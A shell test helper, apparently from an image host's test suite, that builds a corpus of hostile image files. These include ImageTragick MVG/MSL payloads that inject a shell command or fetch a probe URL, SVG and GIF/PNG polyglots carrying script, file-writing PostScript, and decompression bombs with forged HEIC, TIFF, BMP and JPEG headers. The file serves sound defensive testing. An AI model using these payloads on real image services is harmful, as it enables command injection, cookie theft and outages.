# Makes the hostile corpus into $1: files an image host meets from people
# who want it to run something, fetch something, or fall over.  Nothing
# is downloaded.  Sourced by the tests that feed it to the app and to the
# resizer.  $2 is a URL prefix that a payload fetches if it ever runs
# (a request for it shows in that server's access log), $3 a directory
# a payload writes a marker file into if it ever runs.
make_hostile() {
	local d=$1 probe=$2 mark=$3
	mkdir -p "$d"
	[ -s "$d/bomb.png" ] && return 0
	# ImageTragick (CVE-2016-3714 and friends): MVG and MSL, and the same
	# renamed .jpg.  Each would run a shell command, fetch a URL, or
	# write a file, were a coder for it allowed.
	cat >"$d/tragick.mvg" <<EOF
push graphic-context
viewbox 0 0 640 480
fill 'url(https://127.0.0.1/x.jpg"|touch "$mark/mvg-shell)'
image over 0,0 0,0 '$probe/mvg-fetch'
pop graphic-context
EOF
	cp "$d/tragick.mvg" "$d/tragick-mvg.jpg"
	cat >"$d/tragick.msl" <<EOF
<?xml version="1.0" encoding="UTF-8"?>
<image>
<read filename="$probe/msl-fetch" />
<write filename="$mark/msl-write.png" />
</image>
EOF
	cp "$d/tragick.msl" "$d/tragick-msl.jpg"
	printf 'push graphic-context\nviewbox 0 0 1 1\nimage over 0,0 0,0 '"'"'ephemeral:%s/victim'"'"'\npop graphic-context\n' \
		"$mark" >"$d/ephemeral.jpg"
	# SVG with a script and external references.
	cat >"$d/script.svg" <<EOF
<?xml version="1.0" standalone="no"?>
<svg xmlns="http://www.w3.org/2000/svg"
     xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">
<script type="text/javascript">alert(document.cookie)</script>
<image xlink:href="$probe/svg-fetch" width="64" height="64"/>
<image xlink:href="msl:$d/tragick.msl" width="1" height="1"/>
</svg>
EOF
	cp "$d/script.svg" "$d/script-svg.png"
	# PostScript and EPS whose program writes a marker (ghostscript).
	printf '%%!PS\n/f (%s/ps-write) (w) file def f (x) writestring f closefile\nshowpage\n' \
		"$mark" >"$d/write.ps"
	printf '%%!PS-Adobe-3.0 EPSF-3.0\n%%%%BoundingBox: 0 0 10 10\n/f (%s/eps-write) (w) file def f (x) writestring f closefile\nshowpage\n' \
		"$mark" >"$d/write.eps"
	cp "$d/write.eps" "$d/write-eps.gif"
	python3 - "$d" <<'EOF'
import struct, sys, zlib
d = sys.argv[1]
def chunk(t, b):
	return (struct.pack('>I', len(b)) + t + b +
		struct.pack('>I', zlib.crc32(t + b) & 0xffffffff))
def png(w, h, idat):
	return (b'\x89PNG\r\n\x1a\n' +
		chunk(b'IHDR', struct.pack('>IIBBBBB', w, h, 1, 0, 0, 0, 0)) +
		chunk(b'IDAT', idat) + chunk(b'IEND', b''))
# A complete 30000x30000 1-bit PNG: 112 MB of pixels in ~110 kB.
c = zlib.compressobj(9)
row = b'\0' * (1 + (30000 + 7) // 8)
z = b''.join([c.compress(row) for _ in range(30000)] + [c.flush()])
open(d + '/bomb.png', 'wb').write(png(30000, 30000, z))
# The same header before the first 4 kB of its pixels: a few kB.
open(d + '/bomb-short.png', 'wb').write(png(30000, 30000, z[:4096]))
# Just under the side limit, far over the pixel limit (16000^2 = 256 MP).
c = zlib.compressobj(9)
row = b'\0' * (1 + (16000 + 7) // 8)
z = b''.join([c.compress(row) for _ in range(16000)] + [c.flush()])
open(d + '/pixels.png', 'wb').write(png(16000, 16000, z))
# A JPEG whose frame header claims 65000x65000.
j = bytearray(open(d + '/small.jpg', 'rb').read())
i = j.find(b'\xff\xc0')
if i < 0:
	i = j.find(b'\xff\xc2')
j[i + 5:i + 9] = struct.pack('>HH', 65000, 65000)
open(d + '/huge.jpg', 'wb').write(bytes(j))
# A GIF of 1500 frames (the limit is 1000): the one image block of a
# 1x1 GIF, repeated.
g = open(d + '/one.gif', 'rb').read()
def blocks(o):
	while g[o]:
		o += 1 + g[o]
	return o + 1
k = 13 + (3 << ((g[10] & 7) + 1) if g[10] & 0x80 else 0)
while g[k] == 0x21:
	k = blocks(k + 2)
e = k + 10 + (3 << ((g[k + 9] & 7) + 1) if g[k + 9] & 0x80 else 0)
frame = g[k:blocks(e + 1)]
open(d + '/frames.gif', 'wb').write(g[:k] + frame * 1500 + b'\x3b')
EOF
	# Bare headers: the magic bytes of each type and nothing after.
	printf '\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00' \
		>"$d/bare.jpg"
	printf 'GIF89a\x10\x00\x10\x00\x80\x00\x00' >"$d/bare.gif"
	printf 'RIFF\x1a\x00\x00\x00WEBPVP8 \x0e\x00\x00\x00' >"$d/bare.webp"
	# Truncated: half a JPEG, a PNG without its end, a GIF cut in a frame.
	head -c $(($(stat -c %s "$d/photo.jpg") / 2)) "$d/photo.jpg" \
		>"$d/half.jpg"
	head -c $(($(stat -c %s "$d/photo.png") - 20)) "$d/photo.png" \
		>"$d/cut.png"
	head -c $(($(stat -c %s "$d/anim.gif") * 2 / 3)) "$d/anim.gif" \
		>"$d/cut.gif"
	# Random bytes, bare and behind each magic.
	head -c 65536 /dev/urandom >"$d/random.bin"
	{ printf '\xff\xd8\xff'; head -c 65536 /dev/urandom; } >"$d/random.jpg"
	{ printf '\x89PNG\r\n\x1a\n'; head -c 65536 /dev/urandom; } \
		>"$d/random.png"
	# Polyglots: a valid JPEG with a zip after it, a valid GIF with a
	# script after it, a PNG with HTML in a text chunk, and "GIF89a"
	# followed by JavaScript (a GIF header that is a script).
	(cd "$d" && zip -q poly.zip tragick.mvg && cat photo.jpg poly.zip \
		>jpeg-zip.jpg)
	{ cat "$d/anim.gif"; printf '\n<script>alert(1)</script>\n'; } \
		>"$d/gif-js.gif"
	convert "$d/photo.png" -set comment '<html><script>alert(1)</script>' \
		"$d/html.png"
	printf 'GIF89a=1;alert(document.domain);//\n' >"$d/gifjs.gif"
	make_hostile_formats "$d"
}

# make_hostile_formats DIR: lies in HEIC, TIFF and BMP headers (issue
# 18), each made from a real file: a HEIC whose ispe says 65000 x
# 65000, a truncated HEIC, a TIFF of 10000 one-pixel pages, a TIFF whose
# IFD lies past its end, BMPs with a height of -70000 and of INT32_MIN.
make_hostile_formats() {
	local d=$1
	convert "$d/photo.png" "$d/real.heic"
	convert "$d/photo.png" "$d/real.tif"
	convert "$d/photo.png" BMP3:"$d/real.bmp"
	python3 - "$d" <<'PY'
import struct, sys
d = sys.argv[1]
def put(name, data):
    open(d + "/" + name, "wb").write(data)
heic = bytearray(open(d + "/real.heic", "rb").read())
i = heic.index(b"ispe")
heic[i + 8:i + 16] = struct.pack(">II", 65000, 65000)
put("ispe.heic", heic)
real = open(d + "/real.heic", "rb").read()
put("cut.heic", real[:len(real) * 2 // 3])
# 10000 pages: each IFD of one pixel, its strip the byte at offset 8.
n, ifds, off = 10000, b"", 9
for k in range(n):
    e = [(256, 3, 1, 1), (257, 3, 1, 1), (258, 3, 1, 8), (262, 3, 1, 1),
         (273, 4, 1, 8), (279, 4, 1, 1)]
    nxt = off + 2 + 12 * len(e) + 4 if k + 1 < n else 0
    ifds += struct.pack("<H", len(e)) + b"".join(
        struct.pack("<HHII", *x) for x in e) + struct.pack("<I", nxt)
    off = nxt
put("pages.tif", b"II*\0" + struct.pack("<I", 9) + b"\x80" + ifds)
tif = bytearray(open(d + "/real.tif", "rb").read())
tif[4:8] = struct.pack("<I" if tif[:2] == b"II" else ">I", len(tif) + 4096)
put("ifd-past.tif", tif)
bmp = bytearray(open(d + "/real.bmp", "rb").read())
bmp[22:26] = struct.pack("<i", -70000)
put("tall.bmp", bmp)
bmp[22:26] = struct.pack("<i", -2**31)
put("intmin.bmp", bmp)
PY
}

# make_hostile_seeds DIR: the ordinary images the corpus is made from.
make_hostile_seeds() {
	local d=$1
	mkdir -p "$d"
	[ -s "$d/photo.jpg" ] && return 0
	convert -size 640x480 plasma:fractal -seed 3 -quality 85 "$d/photo.jpg"
	convert -size 200x150 plasma:fractal -seed 4 "$d/photo.png"
	convert -size 16x16 xc:red "$d/small.jpg"
	convert -size 1x1 xc:blue "$d/one.gif"
	convert -delay 10 -size 40x30 xc:red xc:green xc:blue xc:white \
		"$d/anim.gif"
}
